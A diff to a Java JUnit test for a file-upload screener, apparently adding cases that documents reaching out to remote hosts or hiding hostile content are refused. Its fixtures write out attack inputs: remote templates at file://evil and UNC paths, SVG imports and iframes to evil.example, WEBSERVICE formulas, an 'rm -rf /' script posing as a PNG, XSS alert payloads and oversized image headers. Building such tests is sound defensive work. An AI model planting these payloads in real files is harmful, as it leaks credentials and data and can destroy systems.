@@ -1,5 +1,6 @@
 package org.clearancedesk.desk;
 
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
 import static org.assertj.core.api.Assertions.assertThat;
 import static org.clearancedesk.desk.OfficeFile.word;
 import static org.clearancedesk.desk.SampleFile.joined;
@@ -8,10 +9,13 @@ import static org.clearancedesk.desk.SampleFile.text;
 import static org.junit.jupiter.params.provider.Arguments.arguments;
 
 import java.io.IOException;
+import java.io.UncheckedIOException;
 import java.nio.ByteBuffer;
 import java.util.Arrays;
 import java.util.HexFormat;
 import java.util.Map;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
 import java.util.stream.Stream;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.Arguments;
@@ -22,6 +26,7 @@ import org.junit.jupiter.params.provider.MethodSource;
 class HandingInFilesThatReachOutTest {
 
     private static final byte[] PROGRAM = joined(text("MZ"), new byte[510]);
+    private static final byte[] PNG_HEAD = HexFormat.of().parseHex("89504e470d0a1a0a");
     private static final byte[] CONTAINER = HexFormat.of().parseHex("d0cf11e0a1b11ae1" + "00".repeat(504));
 
     private final Floor floor;
@@ -158,6 +163,66 @@ class HandingInFilesThatReachOutTest {
                                 "word/media/x.png",
                                 "image/png",
                                 joined(text("\u0089PNG"), OfficeFile.text().bytes()))),
+                arguments("a template on a file server", related("attachedTemplate", "file://evil/share/x.dotm")),
+                arguments("a template on a server with back slashes", related("attachedTemplate", "\\\\evil\\x.dotm")),
+                arguments(
+                        "a template on a server with four slashes",
+                        related("attachedTemplate", "file:////evil/x.dotm")),
+                arguments(
+                        "a template on a server behind the computer's own",
+                        related("attachedTemplate", "file:///C:\\a\\\\evil\\x")),
+                arguments(
+                        "a template on a server in other letters",
+                        related("attachedTemplate", "file:///%5C%5Cevil/x.dotm")),
+                arguments("a template on a server of Windows", related("attachedTemplate", "/??/UNC/evil/x.dotm")),
+                arguments("a script that is called a picture", picture(text("#!/bin/sh\nrm -rf /\n"))),
+                arguments("a page that is called a picture", picture(text("<script>alert(1)</script>"))),
+                arguments("a program behind a picture's head", picture(joined(PNG_HEAD, PROGRAM))),
+                arguments("a program behind a whole picture", picture(joined(png(), PROGRAM))),
+                arguments("a picture with half of its pixels", picture(Arrays.copyOf(png(), png().length - 20))),
+                arguments("nothing that sounds", withPart("word/media/x.mp3", "audio/mpeg", PROGRAM)),
+                arguments("a drawing that imports", drawing("<style>@import 'http://evil.example/x.css';</style>")),
+                arguments(
+                        "a drawing that imports in disguise",
+                        drawing("<style>@\\69mport 'http://evil.example/x';</style>")),
+                arguments("a drawing with a page in it", drawing("<iframe src=\"http://evil.example\"/>")),
+                arguments("a drawing with foreign objects", drawing("<foreignObject><p/></foreignObject>")),
+                arguments("a drawing with an object of a page", drawing("<p xmlns=\"http://www.w3.org/1999/xhtml\"/>")),
+                arguments("a drawing with a picture elsewhere", drawing("<image href=\"http://evil.example/x.png\"/>")),
+                arguments("a drawing with a shape elsewhere", drawing("<use href=\"x.svg#a\"/>")),
+                arguments(
+                        "a drawing with a colour elsewhere",
+                        drawing("<path style=\"fill:url( 'http://evil.example/x#a')\"/>")),
+                arguments(
+                        "a drawing with a set of pictures",
+                        drawing("<style>a{b:image-set('http://evil.example/x' 1x)}</style>")),
+                arguments(
+                        "a drawing that changes by itself",
+                        drawing("<set attributeName=\"href\" to=\"http://evil.example\"/>")),
+                arguments("a drawing that runs", drawing("<path onfocusin=\"alert(1)\"/>")),
+                arguments(
+                        "a drawing with a style elsewhere",
+                        withPart(
+                                "word/media/x.svg",
+                                "image/svg+xml",
+                                text(
+                                        "<?xml-stylesheet href=\"http://evil.example/x.css\"?><svg xmlns=\"http://www.w3.org/2000/svg\"/>"))),
+                arguments(
+                        "a drawing that is called plain",
+                        withPart("word/media/x.svg", "application/xml", text("<svg><iframe/></svg>"))),
+                arguments("a field that nobody knows", withText(field("FETCHIT \"http://evil.example\""))),
+                arguments("a field that leads to a program", withText(field("HYPERLINK \"file://evil/x.exe\""))),
+                arguments("a formula that translates elsewhere", formula("_xlfn.TRANSLATE(A1)")),
+                arguments("a formula of another program", formula("_xll.FETCH(A1)")),
+                arguments("a formula between two sheets with marks", formula("'a\"'!A1+WEBSERVICE('b\"'!A1)")),
+                arguments("a formula between two columns with marks", formula("SUM(T['[])+WEBSERVICE(T['[])")),
+                arguments(
+                        "a formula of a column",
+                        OfficeFile.sheet()
+                                .with(
+                                        "xl/t.xml",
+                                        "<t><calculatedColumnFormula>COPILOT(A1)</calculatedColumnFormula></t>")
+                                .bytes()),
                 arguments(
                         "a part that nobody names",
                         OfficeFile.text().with("word/x.dat", "x").bytes()));
@@ -183,9 +248,24 @@ class HandingInFilesThatReachOutTest {
                         joined(SampleFile.picture("png"), HexFormat.of().parseHex("526172211a0700"))),
                 arguments("vast.tif", tiff(4_000_000_000L, 4_000_000_000L)),
                 arguments("vast-on-the-second-page.tif", secondPage(60_000, 60_000)),
+                arguments("vast-of-the-large-kind.tif", largeTiff(60_000, 60_000)),
+                arguments("of-two-sizes.tif", tiffOfTwoSizes()),
+                arguments("without-pixels.tif", tiff(8, 4)),
                 arguments("vast-frame.gif", gifWithFrame(65_535, 65_535)),
                 arguments("vast.jpg", joined(HexFormat.of().parseHex("ffd8ff01"), frame(65_500, 65_500))),
                 arguments("vast.jpg", joined(HexFormat.of().parseHex("ffd8ffe0000400000000"), frame(65_500, 65_500))),
+                arguments("head-alone.jpg", joined(HexFormat.of().parseHex("ffd8"), frame(8, 4))),
+                arguments(
+                        "head-and-scan-alone.jpg",
+                        joined(cut(jpeg), HexFormat.of().parseHex("ffd9"))),
+                arguments("half.png", Arrays.copyOf(png(), png().length - 20)),
+                arguments("script.png", joined(PNG_HEAD, text("#!/bin/sh\nrm -rf /\n"))),
+                arguments("frameless.webp", webp(8, 4)),
+                arguments("stub.pdf", text("%PDF-1.7")),
+                arguments("lined.pdf", text("%PDF-1.7\n%%EOF\n")),
+                arguments("locked-on-the-spot.pdf", lockedOnTheSpot("/Encrypt")),
+                arguments("locked-in-other-letters.pdf", lockedOnTheSpot("/#45ncr#79pt%now\n")),
+                arguments("locked-elsewhere-in-other-letters.pdf", renamedLock()),
                 arguments("no-frame.jpg", HexFormat.of().parseHex("ffd8ffe000040000ffd9")),
                 arguments("vast.webp", webp(16_000_000, 60)),
                 arguments("vast.heic", SampleFile.heic(60_000, 60_000)),
@@ -226,6 +306,70 @@ class HandingInFilesThatReachOutTest {
 
     private static byte[] withPart(String name, String type, byte[] content) {
         return OfficeFile.text().with(name, type, content).bytes();
+    }
+
+    private static byte[] picture(byte[] content) {
+        return withPart("word/media/x.png", "image/png", content);
+    }
+
+    private static byte[] drawing(String content) {
+        return withPart(
+                "word/media/x.svg",
+                "image/svg+xml",
+                text("<svg xmlns=\"http://www.w3.org/2000/svg\">" + content + "</svg>"));
+    }
+
+    private static byte[] formula(String formula) {
+        return OfficeFile.sheet()
+                .with("xl/sheet1.xml", "<c><f>" + formula + "</f></c>")
+                .bytes();
+    }
+
+    private static byte[] png() {
+        try {
+            return SampleFile.picture("png");
+        } catch (IOException e) {
+            throw new UncheckedIOException(e);
+        }
+    }
+
+    /** Up to where the pixels would begin. */
+    private static byte[] cut(byte[] jpeg) {
+        int scan = HexFormat.of().formatHex(jpeg).indexOf("ffda") / 2;
+        return Arrays.copyOf(jpeg, scan + 2 + ByteBuffer.wrap(jpeg).getShort(scan + 2));
+    }
+
+    /** With what locks it where others name the place. */
+    private static byte[] lockedOnTheSpot(String name) throws IOException {
+        String locked = new String(SampleFile.lockedPdf("open", 128), ISO_8859_1);
+        Matcher lock = Pattern.compile("/Encrypt (\\d+) 0 R").matcher(locked);
+        lock.find();
+        int object = locked.indexOf("\n" + lock.group(1) + " 0 obj");
+        String dictionary = locked.substring(locked.indexOf("<<", object), locked.indexOf("endobj", object));
+        return locked.replace(lock.group(), name + dictionary).getBytes(ISO_8859_1);
+    }
+
+    private static byte[] renamedLock() throws IOException {
+        return new String(SampleFile.lockedPdf("open", 128), ISO_8859_1)
+                .replace("/Encrypt ", "/Encr#79pt%\n")
+                .getBytes(ISO_8859_1);
+    }
+
+    private static byte[] largeTiff(long width, long height) {
+        return joined(
+                HexFormat.of()
+                        .parseHex("4d4d002b000800000000000000000010" + "0000000000000003" + "010000100000000000000001"),
+                ByteBuffer.allocate(8).putLong(width).array(),
+                HexFormat.of().parseHex("010100100000000000000001"),
+                ByteBuffer.allocate(8).putLong(height).array(),
+                HexFormat.of().parseHex("011100100000000000000001" + "0000000000000010" + "0000000000000000"));
+    }
+
+    private static byte[] tiffOfTwoSizes() {
+        return joined(
+                HexFormat.of().parseHex("4d4d002a00000008" + "0004" + "010000040000000100000001"),
+                HexFormat.of().parseHex("010000040000000100000008" + "010100040000000100000004"),
+                HexFormat.of().parseHex("011100040000000100000008" + "00000000"));
     }
 
     private static byte[] packed(String start) {
